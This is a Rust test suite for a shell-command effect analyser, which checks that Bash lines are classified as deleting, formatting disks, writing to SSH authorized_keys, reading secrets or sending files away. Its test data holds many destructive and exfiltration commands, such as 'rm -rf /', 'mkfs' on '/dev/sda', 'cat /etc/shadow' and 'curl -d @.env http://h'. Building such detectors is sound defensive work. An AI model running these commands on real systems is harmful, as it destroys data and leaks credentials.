use herma_shell::syntax::Dialect;
use herma_shell::{FileKind, Read as Content, Request, World, analyse};

use super::effects;
use crate::effect::Verb::{self, *};
use crate::place::Place::{self, *};
use crate::scene::Scene;

/// A machine without files, whose user lives in `/home/dev`.
struct Machine;

impl World for Machine {
    fn read(&self, _: &[u8], _: usize) -> Content {
        Content::Missing
    }

    fn list(&self, _: &[u8]) -> Option<Vec<Vec<u8>>> {
        None
    }

    fn stat(&self, _: &[u8]) -> Option<FileKind> {
        None
    }

    fn variable(&self, name: &[u8]) -> Option<Vec<u8>> {
        (name == b"HOME").then(|| b"/home/dev".to_vec())
    }

    fn home(&self, user: Option<&[u8]>) -> Option<Vec<u8>> {
        user.is_none().then(|| b"/home/dev".to_vec())
    }
}

/// What a line does, as (verb, places) of every effect of every execution.
fn of(line: &str) -> Vec<(Verb, Vec<Place>)> {
    let request = Request {
        text: line.as_bytes(),
        dialect: Dialect::Bash,
        cwd: b"/home/dev/proj",
    };
    let scene = Scene::of_world(b"/home/dev/proj", &Machine);
    analyse(&request, &Machine)
        .executions
        .iter()
        .flat_map(|execution| effects(execution, &scene))
        .map(|effect| (effect.verb, effect.places))
        .collect()
}

#[track_caller]
fn does(lines: &[&str], verb: Verb, place: Place) {
    for line in lines {
        let own = of(line);
        assert!(
            own.iter()
                .any(|(own, places)| *own == verb && places.contains(&place)),
            "{line}: {own:?}"
        );
    }
}

#[track_caller]
fn does_not(lines: &[&str], verbs: &[Verb]) {
    for line in lines {
        let own = of(line);
        assert!(
            !own.iter().any(|(own, _)| verbs.contains(own)),
            "{line}: {own:?}"
        );
    }
}

#[test]
fn rm_deletes_its_operands_in_every_spelling() {
    does(
        &[
            "rm -rf /",
            "rm / -rf",
            "rm -r -f /",
            "rm --recursive --force /",
            "rm --rec /",
            "rm -fR -- /",
            "rm -rf build /",
            "rm -Rf --no-preserve-root /",
            "rm -vrfi /",
            "find / -delete",
            "find / -xdev -delete",
            "rsync -a --delete /var/empty/ /",
            "rsync -a --del empty/ /",
            "rimraf /",
            "find / -maxdepth 9 -depth -delete",
            "find / -print0 | xargs -0 rm -rf",
            "find / -exec rm -rf {} +",
            "find / -name '*' -exec rm -rf {} +",
            "cd / && rm -rf *",
            "srm -r /",
        ],
        DeleteTree,
        SystemRoot,
    );
    does(
        &["rm -rf $(f) x", "rm $(f) x", "rm -$(f) x"],
        DeleteTree,
        Work,
    );
    does(
        &["rm /etc", "rm -f /", "rmdir /etc", "unlink /etc"],
        Delete,
        SystemRoot,
    );
    does(
        &[
            "rm -- -rf",
            "rm -f a",
            "rm -i -- old-r",
            "unlink a",
            "rmdir a",
            "rm -d a",
        ],
        Delete,
        Work,
    );
    does_not(
        &[
            "rm -- -rf",
            "rm -f r",
            "rm --help",
            "echo rm -rf /",
            "rm --version",
            "git rm -r x",
            "rsync -n --delete a/ b/",
            "find . -name x",
        ],
        &[DeleteTree],
    );
}

#[test]
fn names_that_find_hands_on_keep_their_end() {
    let regenerable = |lines: &[&str], verb: Verb| does(lines, verb, Regenerable);
    regenerable(
        &[
            "find . -name '__pycache__' -type d -prune -exec rm -rf {} +",
            "find . -name node_modules -print0 | xargs -0 rm -rf",
            "find . \\( -name dist -o -name build \\) -exec rm -rf {} +",
        ],
        DeleteTree,
    );
    regenerable(
        &[
            "find . -name '*.pyc' -delete",
            "find . -type f -name '*.o' -exec rm {} \\;",
        ],
        Delete,
    );
    for line in [
        "find . -name '*.tmp' -delete",
        "find . -name '*.pyc' -o -name x -delete",
        "find /srv -name '*.pyc' -delete",
        "find . ! -name '*.pyc' -delete",
    ] {
        let own = of(line);
        assert!(
            own.iter()
                .all(|(_, places)| places.contains(&Unnamed) && !places.contains(&Regenerable)),
            "{line}: {own:?}"
        );
    }
    does(
        &["find . -delete", "find -delete", "find . -delete -name x"],
        DeleteTree,
        WorkRoot,
    );
    does(&["find / -name core -delete"], Delete, Unnamed);
    does_not(
        &[
            "find / -name core -delete",
            "find / -type f -mtime +9 -delete",
        ],
        &[DeleteTree],
    );
}

#[test]
fn every_writer_has_the_same_target() {
    let target = "$HOME/.ssh/authorized_keys";
    let writers = [
        "echo k > @",
        "echo k >> @",
        "echo k >| @",
        "echo k &> @",
        "echo k &>> @",
        "echo k >& @",
        "echo k 3<> @",
        "tee @",
        "tee -a @",
        "sudo tee @",
        "cp k @",
        "mv k @",
        "install -m 600 k @",
        "ln -sf k @",
        "cp -t % authorized_keys",
        "cp --target-directory=% authorized_keys",
        "mv a authorized_keys %",
        "cp authorized_keys %/",
        "mv authorized_keys %",
        "rsync k @",
        "rsync -a host:k @",
        "scp host:k @",
        "dd of=@",
        "touch @",
        "sed -i s/a/b/ @",
        "sed -e s/a/b/ -i.bak @",
        "sed -n -i p @",
        "sed -ni.bak p @",
        "sed --in-place=.b p @",
        "perl -pi -e 's/a/b/' @",
        "perl -i.bak -ne print @",
        "ruby -i -pe x @",
        "awk -i inplace '{}' @",
        "patch @ fix.diff",
        "patch -o @ a fix.diff",
        "curl -o @ http://h/",
        "curl -sLo@ http://h/",
        "curl --output=@ http://h/",
        "wget -O @ http://h/",
        "wget -qO@ http://h/",
        "tar -xf a.tar -C %",
        "tar xfC a.tar %",
        "unzip a.zip -d %",
        "sort -o @ a",
        "sort a -o@",
        "sponge @",
        "openssl rand -out @ 3",
        "gcc -o @ a.c",
        "ssh-keygen -f @",
        "xxd a @",
        "base64 -o @ a",
        "split -b 1 a @",
        "git config --file @ a.b c",
        "truncate -s +3 @",
        "vim @",
        "uniq a @",
        "cat > @",
        "script -O @",
        "find . -fprint @",
        "tar -cf @ src",
        "zip @ a",
        "gzip @",
        "install -D k @",
        "cp -T k @",
        "ex -s @",
        "pg_dump -f @ x",
        "curl --output-dir % -o authorized_keys http://h/",
        "curl -O --output-dir % http://h/authorized_keys",
        "wget -P % http://h/x",
        "mkdir -p @",
        "cd ~ && echo > .ssh/authorized_keys",
        "cd ~/.ssh && cp /tmp/k .",
        "mkfifo @",
        "fallocate -l 1 @",
        "git archive -o @ HEAD",
        "yq -i . @",
    ];
    for writer in writers {
        let line = writer.replace('@', target).replace('%', "$HOME/.ssh");
        let own = of(&line);
        assert!(
            own.iter().any(
                |(verb, places)| matches!(verb, Write | Append | Edit | Empty)
                    && places.contains(&SshDirectory)
            ),
            "{line}: {own:?}"
        );
    }
}

#[test]
fn what_only_reads_writes_nothing() {
    for line in [
        "cat /etc/hosts",
        "sed -n 1p /etc/fstab",
        "sed s/a/b/ /etc/hosts",
        "tar -tf a.tar -C /etc",
        "tar -rf a.tar /etc/hostname",
        "diff a /etc/b",
        "sort /etc/passwd",
        "cp /etc/hosts /tmp/hosts",
        "dd if=/etc/x of=y",
        "patch --dry-run /etc/x a",
        "cp --help /etc/x",
        "unzip -l a.zip -d /etc",
        "git config --file /etc/x --list",
        "grep a /etc/x > y",
    ] {
        let own = of(line);
        assert!(
            !own.iter()
                .any(|(verb, places)| *verb != Read && places.contains(&Etc)),
            "{line}: {own:?}"
        );
    }
}

#[test]
fn emptying_is_told_from_writing() {
    does(
        &[
            ": > a.db",
            "> a.db",
            "true > a.db",
            "truncate -s 0 a.db",
            "truncate --size=0 a.db",
            "cat /dev/null > a.db",
            "cp /dev/null a.db",
            "echo -n > a.db",
            "cat < /dev/null > a.db",
            "dd if=/dev/null of=a.db",
        ],
        Empty,
        Database,
    );
    does(&["echo x > a.db"], Write, Database);
    does(&["truncate -s +1M a.db"], Edit, Database);
}

#[test]
fn moving_reads_nothing_and_takes_the_source_away() {
    does(
        &["mv /usr /usr.old", "mv -t /tmp/x /usr"],
        MoveAway,
        SystemRoot,
    );
    does(&["mv a /dev/null"], Delete, Work);
    does(&["mv ~/* /tmp/x"], MoveAway, Home);
    does_not(&["mv a b"], &[Delete, DeleteTree, Read]);
}

#[test]
fn raw_devices_are_formatted_and_overwritten() {
    does(
        &[
            "mkfs.ext4 /dev/sda1",
            "mkfs -t xfs /dev/sda",
            "mkfs.xfs -f /dev/sda",
            "mke2fs -q /dev/sda",
            "mkswap /dev/sda2",
            "newfs /dev/disk2",
            "wipefs -a /dev/sda",
            "wipefs --all --force /dev/sda",
            "wipefs -af /dev/sda",
            "sgdisk -Z /dev/sda",
            "sgdisk --zap-all /dev/sda",
            "sgdisk -o /dev/sda",
            "sgdisk -og /dev/sda",
            "blkdiscard /dev/nvme0n1",
            "blkdiscard -f /dev/nvme0n1",
            "parted -s /dev/sda mklabel gpt",
            "parted /dev/sda -- mktable msdos",
            "cryptsetup luksFormat /dev/sda2",
            "cryptsetup -q luksErase /dev/sda2",
            "sudo mkfs.vfat -F 32 /dev/mmcblk0p1",
            "hdparm --security-erase p /dev/sda",
            "nvme format /dev/nvme0n1",
            "badblocks -w /dev/sda",
            "mkfs.btrfs -L data /dev/sdb",
            "mkfs.fat -n BOOT /dev/sdb1",
        ],
        Format,
        RawDevice,
    );
    does(
        &[
            "dd if=/dev/zero of=/dev/sda",
            "dd of=/dev/sda",
            "cp a /dev/sda",
            "tee /dev/sda",
            "echo > /dev/sda",
            "cat a >/dev/sda",
            "dcfldd of=/dev/sda",
            "mv a /dev/sda",
        ],
        Write,
        RawDevice,
    );
    does(
        &["shred /dev/sda", "shred -n 3 -z /dev/sdb"],
        Shred,
        RawDevice,
    );
    for line in [
        "wipefs /dev/sda",
        "wipefs -n -a /dev/sda",
        "sgdisk -p /dev/sda",
        "mkfs.ext4 disk.img",
        "mkswap /swapfile",
        "parted /dev/sda print",
        "cryptsetup luksDump /dev/sda",
        "dd if=a of=disk.img",
        "cp a /dev/null",
        "mke2fs -n /dev/sda",
        "blkdiscard --help",
        "mkfs --help",
        "echo > /dev/null",
    ] {
        let own = of(line);
        assert!(
            !own.iter()
                .any(|(verb, places)| *verb != Read && places.contains(&RawDevice)),
            "{line}: {own:?}"
        );
    }
}

#[test]
fn modes_that_let_everybody_write() {
    does(
        &[
            "chmod 777 a",
            "chmod 0777 a",
            "chmod 666 a",
            "chmod 1777 a",
            "chmod o+w a",
            "chmod a+rwx a",
            "chmod ugo+rwx a",
            "chmod a=rwx a",
            "chmod o=rw a",
            "chmod -R 777 a",
            "chmod \"777\" a",
            "chmod u=rwx,g=rx,o=rwx a",
            "chmod a 777 && chmod 777 a",
            "chmod -v 0002 a",
            "chmod o=u a",
            "chmod go+rwX a",
            "setfacl -m o::rwx a",
            "setfacl -m u:x:r,other:rw- a",
            "setfacl -Rm d:o::7 a",
            "install -m 777 k a",
            "mkdir -m 1777 a",
            "chmod --recursive a+w a",
            "chmod =777 a",
            "chmod o-r+w a",
        ],
        WorldWritable,
        Work,
    );
    does(
        &[
            "chmod u+s a",
            "chmod 4755 a",
            "chmod 2755 a",
            "chmod +s a",
            "install -m 4755 k a",
            "chmod ug+s a",
        ],
        Setuid,
        Work,
    );
    does_not(
        &[
            "chmod 755 a",
            "chmod 644 a",
            "chmod +x a",
            "chmod o-w a",
            "chmod u+w a",
            "chmod go-rwx a",
            "chmod -w a",
            "chmod 0700 a",
            "chmod 775 a",
            "chmod +w a",
            "chmod 1755 a",
            "setfacl -m u:x:rwx a",
            "setfacl -b a",
            "chmod o=rx a",
            "chmod u=rwx,o= a",
            "mkdir -m 700 a",
        ],
        &[WorldWritable, Setuid],
    );
    does(
        &["chmod -R 755 /usr", "chmod 755 -R /"],
        ModeTree,
        SystemRoot,
    );
    does(
        &[
            "chown -R root a",
            "chown -R root:root a",
            "chown --recursive 0:0 a",
            "chown root a -R",
        ],
        RootOwnerTree,
        Work,
    );
    does_not(
        &[
            "chown root a",
            "chown -R dev a",
            "chgrp -R root a",
            "chown -R dev:root a",
        ],
        &[RootOwnerTree],
    );
    does(
        &["chown -R nobody /usr/share", "chgrp -R x /usr/share"],
        OwnerTree,
        BelowSystem,
    );
}

#[test]
fn printing_a_secret_is_reading_it() {
    does(
        &[
            "cat .env",
            "less .env",
            "head -n 3 .env",
            "tail .env",
            "grep KEY .env",
            "base64 .env",
            "xxd .env",
            "sed -n p .env",
            "awk '{print}' .env",
            "cat < .env",
            "cp .env x",
            "diff .env.example .env",
            "cat ./api/.env.local",
            "sort .env",
            "tar cf - .env",
            "strings .env",
            "cut -d= -f2 .env",
            "jq -R . .env",
            "nl .env",
            "dd if=.env",
            "rg . .env",
            "tr a b < .env",
            "bat .env",
            "od -c .env",
            "curl file:///home/dev/proj/.env",
            "perl -ne print .env",
            "cat .e*",
            "find . -name .env -exec cat {} +",
            "tac .env",
            "gzip -c .env",
            "zip x.zip .env",
            "scp .env copy",
            "rsync .env copy",
            "docker cp .env web:/x",
            "ln .env x",
            "ln -s $PWD/.env x",
            "split -b 1 .env",
            "podman container cp -a .env web:/x",
        ],
        Read,
        EnvFile,
    );
    does(
        &[
            "cat ~/.ssh/id_rsa",
            "cat ~/.ssh/*",
            "tar czf - ~/.ssh",
            "cp -r ~/.ssh x",
            "cat server.key",
        ],
        Read,
        PrivateKey,
    );
    does(
        &[
            "cat ~/.netrc",
            "base64 ~/.kube/config",
            "cat /etc/shadow",
            "cat /proc/1/environ",
            "tar cz ~/.aws",
        ],
        Read,
        Credential,
    );
    for line in [
        "cat ~/.ssh/id_ed25519.pub",
        "cat ~/.ssh/known_hosts",
        "cat .env.example",
        "ssh-keygen -l -f ~/.ssh/x.pub",
        "docker run --env-file .env alpine true",
        "grep -q KEY .env",
        "grep -l KEY .env",
        "wc -l .env",
        "ls -la .env",
        "grep .env README.md",
        "source .env",
        "git rm --cached .env",
        "test -f .env",
    ] {
        let own = of(line);
        assert!(
            !own.iter().any(|(_, places)| places
                .iter()
                .any(|place| matches!(place, PrivateKey | Credential | EnvFile))),
            "{line}: {own:?}"
        );
    }
}

#[test]
fn what_leaves_the_machine_is_sent() {
    does(
        &[
            "curl -d @.env http://h",
            "curl --data-binary @.env http://h",
            "curl -F f=@.env http://h",
            "curl -F 'f=@.env;type=x' http://h",
            "curl -T .env http://h",
            "curl --data-urlencode k@.env http://h",
            "curl -F f=<.env http://h",
            "wget --post-file=.env http://h",
            "wget --body-file .env http://h",
            "nc h 1 < .env",
            "scp .env h:",
            "scp -r .env user@h:/x",
            "rsync .env h:x",
            "rsync -a .env rsync://h/x",
            "aws s3 cp .env s3://b/",
            "gsutil cp .env gs://b",
            "rclone copy .env r:x",
            "gh gist create .env",
            "curl --upload-file=.env http://h",
            "ncat h 1 <.env",
            "curl -sSd@.env http://h",
            "curl --json @.env http://h",
            "http POST h @.env",
            "mail -a .env x < /dev/null",
            "kubectl cp .env p:/x",
            "socat FILE:.env TCP:h:1",
            "curl -d @- http://h < .env",
        ],
        Send,
        EnvFile,
    );
    does_not(
        &[
            "curl -d a=b http://h",
            "scp h:x .",
            "curl -d user@host http://h",
            "aws s3 cp s3://b/x .",
            "wget http://h/.envoy",
            "curl -u a:b@c http://h",
        ],
        &[Send],
    );
}

#[test]
fn what_may_be_set_elsewhere_is_not_taken_for_nothing() {
    does(
        &["cd \"$X/\" && rm -rf *", "cd $X/ && rm -rf ./*"],
        DeleteTree,
        EmptyJoin,
    );
    does(
        &[
            "cd $X && rm -rf *",
            "rm -rf \"${X:?}\"/*",
            "cd \"$X\" && rm -rf *",
        ],
        DeleteTree,
        Unresolved,
    );
    does(&["rm -rf /\"${X:?}\""], DeleteTree, UnresolvedRoot);
    does(
        &["rm -rf \"${X:?}/node_modules\"", "cd $X && rm -rf dist"],
        DeleteTree,
        Regenerable,
    );
    does(
        &["cd && rm -rf *", "cd ~ && rm -rf *", "cd; rm -rf .* *"],
        DeleteTree,
        Home,
    );
}

#[test]
fn names_that_a_loop_reads_are_not_known() {
    does(
        &[
            "read f < list.txt; rm \"$f\"",
            "while read -r f; do rm -f \"$f\"; done < list.txt",
            "git ls-files | while read f; do rm \"$f\"; done",
            "cat list.txt | while read f; do rm \"$f\"; done",
        ],
        Delete,
        Unresolved,
    );
}
